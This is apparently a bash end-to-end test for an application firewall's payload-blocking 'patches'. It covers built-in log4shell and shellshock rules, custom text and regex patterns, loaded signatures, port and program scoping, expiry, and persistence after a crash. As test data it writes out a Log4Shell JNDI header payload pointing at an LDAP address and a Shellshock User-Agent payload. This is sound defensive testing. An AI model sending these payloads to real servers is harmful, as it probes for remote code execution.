#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-or-later
# Goal: a patch that looks at payload: built-in ones by name, a text, an expression, a loaded signature; the request
# that has it never arrives, its clean twin does; with an address, a port, an object or --monitor, only there; it is in
# force again after a crash, and gone when it is removed or has expired.
# shellcheck source=tests/e2e/lib.sh
. "$(dirname "$0")/lib.sh"

# get PATH [OPTION...]: one request to the server.
get() {
	local path=$1
	shift
	on client /usr/bin/curl -q -sS --noproxy '*' --max-time "${MAX_TIME:-20}" -o /dev/null "$@" "$(url $SERVER4 "${PORT:-8080}" "$path")"
}

# stopped PATH [OPTION...]: it does not arrive.
stopped() {
	local path=$1
	shift
	MAX_TIME=0.7 expect_fail get "$path" "$@"
	! http_saw "${PORT:-8080}" "$path" || fail "the server saw $path"
}

arrives() {
	local path=$1
	shift
	expect_ok get "$path" "$@"
	http_saw "${PORT:-8080}" "$path" || fail "the server did not see $path"
}

# shellcheck disable=SC2016 # that is how it is sent
exploit=(-H 'X-Api: ${jndi:ldap://192.0.2.1/a}')
shock=(-H 'User-Agent: () { :; }; echo vulnerable')

# packets ID: that it has met.
packets() {
	ctl patch list --json | jq --argjson id "$1" '.patches[] | select(.id == $id).packets'
}

not_listed() {
	[[ -z $(packets "$1") ]]
}

setup_net
serve_http server 8080
serve_http server 8081
divert client
start_daemon client --state "$TMP/state" --events "$TMP/events"
for chain in INPUT OUTPUT; do expect_ok ctl -A -c $chain -v ACCEPT; done

step "free"
arrives /free-log "${exploit[@]}"
arrives /free-shock "${shock[@]}"

step "log4shell, by its name"
expect_line "patch 1" ctl patch add log4shell
ctl patch list --json | jq -e '.builtin[] | select(.name == "log4shell").id == 1' || fail "the list of built-in ones"
stopped /log "${exploit[@]}"
arrives /log-clean -H 'X-Api: jndi ldap'
arrives /log-shock "${shock[@]}"
expect_that "$(packets 1)" -gt 0 "what it has met"
wait_for grep -q '"msg":"patch 1: CVE-2021-44228"' "$TMP/events"

step "shellshock, for one port"
expect_line "patch 2" ctl patch add shellshock --port 8080
stopped /shock "${shock[@]}"
PORT=8081 arrives /shock-elsewhere "${shock[@]}"

step "in force again after a crash"
kill_daemon
start_daemon client --state "$TMP/state" --events "$TMP/events"
stopped /log-again "${exploit[@]}"
stopped /shock-again "${shock[@]}"
arrives /clean-again

step "removed by its name"
expect_line "patch 1: log4shell" ctl patch rm log4shell
arrives /log-removed "${exploit[@]}"
stopped /shock-still "${shock[@]}"
expect_ok ctl patch rm shellshock
arrives /shock-removed "${shock[@]}"

step "a text, an expression, a signature that is loaded and only alerts"
expect_line "patch 3" ctl patch add --cidr $SERVER4 --port 8080 --pattern 'secret; "word"' --note text
stopped /text -H 'X-A: a secret; "word" b'
arrives /text-clean -H 'X-A: a secret, "word" b'
expect_line "patch 4" ctl patch add -p tcp --pcre 'evil[0-9]+/x' --note expression
stopped /pcre -H 'X-A: evil77/x'
arrives /pcre-clean -H 'X-A: evil/x'
echo 'alert tcp any any -> any 8080 (msg:"it; is"; content:"loaded-one"; sid:5;)' >"$TMP/sig.rules"
expect_ok ctl sig load "$TMP/sig.rules"
arrives /sid-alert -H 'X-A: loaded-one'
expect_line "patch 5" ctl patch add --sid 5 --note signature
stopped /by-sid -H 'X-A: loaded-one'
sed -i s/loaded-one/loaded-two/ "$TMP/sig.rules"
expect_ok ctl sig load "$TMP/sig.rules"
stopped /by-sid-anew -H 'X-A: loaded-two'
arrives /by-sid-before -H 'X-A: loaded-one'
expect_refused 1 "patch 5 is made of it" ctl sig rm 5
for id in 3 4 5; do expect_ok ctl patch rm $id; done
arrives /none -H 'X-A: secret; "word" evil77/x loaded-one'
expect_ok ctl sig rm 5

step "a text with a patch that cannot be in force is refused as a whole"
ctl save >"$TMP/before"
printf 'app-fw rules 3\npatch 90 --pcre "(a" --note "x"\nend\n' >"$TMP/file"
expect_no_change 1 "patch 90: pcre: Missing close parenthesis" ctl restore "$TMP/file"
expect_no_change 1 "pcre: Missing close parenthesis" ctl patch add --pcre '(a' --note x
expect_no_change 1 "--sid 5: expected a signature that is loaded" ctl patch add --sid 5 --note x

step "for one program, only told of, for a time"
expect_line "patch 6" ctl patch add --pattern by-curl --sng-hash "$(digest wget)" --note "of another"
arrives /other -H 'X-A: by-curl'
expect_line "patch 7" ctl patch add --pattern by-curl --sng-hash "$(digest curl)" --note "of this"
stopped /this -H 'X-A: by-curl'
expect_line "patch 8" ctl patch add --pattern watched --monitor --note watched
arrives /watched -H 'X-A: watched'
expect_that "$(packets 8)" -gt 0 "what it has met"
expect_line "patch 9" ctl patch add --pattern short --expires +4s --note short
stopped /short -H 'X-A: short'
WAIT_S=30 wait_for not_listed 9
arrives /short-over -H 'X-A: short'
